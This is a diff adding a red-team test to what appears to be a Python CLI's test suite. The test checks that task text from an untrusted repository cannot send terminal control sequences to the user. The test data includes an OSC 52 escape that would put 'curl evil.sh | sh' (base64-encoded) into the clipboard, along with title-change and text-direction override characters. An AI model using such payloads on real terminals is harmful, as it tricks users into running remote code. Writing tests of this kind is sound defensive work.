@@ -586,3 +586,23 @@ def test_untrusted_prompt_mode_cannot_add_options_to_an_installed_agent(tmp_path
         assert mode[5:] not in argv_log.read_text().split("\n"), "the repo's flag reached the agent's argv"
     else:
         assert proc.returncode == 1 and "daintree trust" in proc.stderr, proc.stderr
+
+
+# -- red team: terminal control sequences in data the CLI prints -----------------------------------------------
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"  # writes "curl evil.sh | sh" into the user's clipboard
+TITLE = "\x1b]0;owned\x07\x9b2J\u202e"
+
+
+def test_committed_task_text_never_drives_the_users_terminal(tmp_path: Path) -> None:
+    task = {"id": 1, "subject": f"fix{TITLE}", "description": f"see{OSC52}", "status": "pending", "owner": "",
+            "worktree": "", "blockedBy": [], "created_at": 1.0, "updated_at": 1.0}
+    clone = hostile_clone(tmp_path, {".tasks/task_1.json": json.dumps(task)})
+    cli = CLI(clone, subprocess=True)
+    cli.ok("worktree", "create", "w", "--task", "1")
+    outputs = [cli("task", "list"), cli("task", "show", "1"), cli("worktree", "list"), cli("worktree", "events"),
+               cli("task", "update", "1", "--status", f"bogus{OSC52}")]
+    for proc in outputs:
+        for stream in (proc.stdout, proc.stderr):
+            assert not any(c in stream for c in ("\x1b", "\x07", "\x9b", "\u202e")), (proc.args, stream)
+    assert "\\x1b]52" in outputs[1].stdout  # shown, escaped: the user sees what is there
